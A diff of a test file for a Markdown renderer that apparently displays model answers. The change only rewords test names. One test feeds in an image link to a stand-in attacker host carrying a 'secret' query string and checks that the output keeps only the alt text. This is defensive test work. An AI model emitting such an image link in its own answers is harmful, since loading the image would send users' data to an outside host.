@@ -33,18 +33,18 @@ test.each([
   expect(html(text)).not.toContain("href");
 });
 
-test("a link to another site opens apart from this page and tells it nothing", () => {
+test("a link to another site opens a tab of its own without a referrer", () => {
   expect(html("[x](https://example.org)")).toContain(
     '<a href="https://example.org" target="_blank" rel="noopener noreferrer nofollow">x</a>',
   );
 });
 
-test("headings begin below the page's own and skip no level, whatever the model begins with", () => {
+test("headings begin below the page's own and skip no level", () => {
   const shown = html("### One\n\n##### Two\n\n> ###### Three\n\n### Four\n\n# Five\n\n### Six");
   expect(shown.match(/<h\d>\w+/g)).toEqual(["<h2>One", "<h3>Two", "<h4>Three", "<h2>Four", "<h2>Five", "<h3>Six"]);
 });
 
-test("a picture is its words: looking at an answer asks no other host for anything", () => {
+test("a picture becomes its words, so that an answer calls no other host", () => {
   const shown = html("![the oven](https://evil.example/?q=secret) ![x](data:image/png;base64,AA)");
   expect(shown).toContain("the oven");
   expect(shown).not.toMatch(/src|evil/);
